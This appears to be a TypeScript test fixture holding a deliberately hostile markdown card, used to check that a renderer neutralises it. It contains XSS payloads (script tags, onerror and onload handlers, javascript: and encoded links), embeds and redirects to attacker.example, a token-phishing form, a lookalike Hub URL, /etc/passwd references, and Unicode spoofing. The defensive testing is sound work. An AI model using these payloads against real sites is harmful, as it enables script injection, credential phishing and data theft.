/** A card that tries to run code, to leave the page, to phone home and to break the layout. */

export const hostileCard = `# Hostile card

Nothing on this page may run, load, move or look like the app.

<script>window.__hostile = "script"; document.title = "owned";</script>
<img src="x" onerror="window.__hostile = 'onerror'">
<svg onload="window.__hostile = 'svg'"><script>window.__hostile = "svg script"</script></svg>
<iframe src="https://attacker.example/frame"></iframe>
<object data="https://attacker.example/object"></object>
<embed src="https://attacker.example/embed">
<form action="https://attacker.example/form"><input name="token" placeholder="Paste your token"><button>Sign in</button></form>
<style>body { display: none !important }</style>
<link rel="stylesheet" href="https://attacker.example/style.css">
<meta http-equiv="refresh" content="0;url=https://attacker.example/refresh">
<base href="https://attacker.example/base/">
<a href="javascript:window.__hostile='html link'">html link</a>
<div style="position:fixed;inset:0;z-index:99999;background:#fff">covers everything</div>
<p id="root" class="mantine-Modal-root" name="body">takes ids</p>
<video src="https://attacker.example/video.mp4" autoplay></video>

[markdown link](javascript:window.__hostile='markdown')
[encoded link](java&#115;cript:window.__hostile='encoded')
[data link](data:text/html,<script>window.__hostile='data'</script>)
[file link](file:///etc/passwd)
[other scheme](vscode://attacker.example/run)
[looks like the Hub](https://huggingface.co.attacker.example/settings/tokens)
[with credentials](https://user:password@attacker.example/)

![tracker](https://attacker.example/pixel.png)
![loopback](http://127.0.0.1:1/pixel.png)
![outside the repo](../../../../etc/passwd)
![data picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)

| a | b |
|---|---|
| <img src=x onerror=window.__hostile='table'> | \`<script>\` |

${"deep ".repeat(400)}

${"> ".repeat(200)}nested

Right to left: \u202Eelif gniht a ton si siht\u202C. Zero width: a\u200Bb\u200Bc.
`;
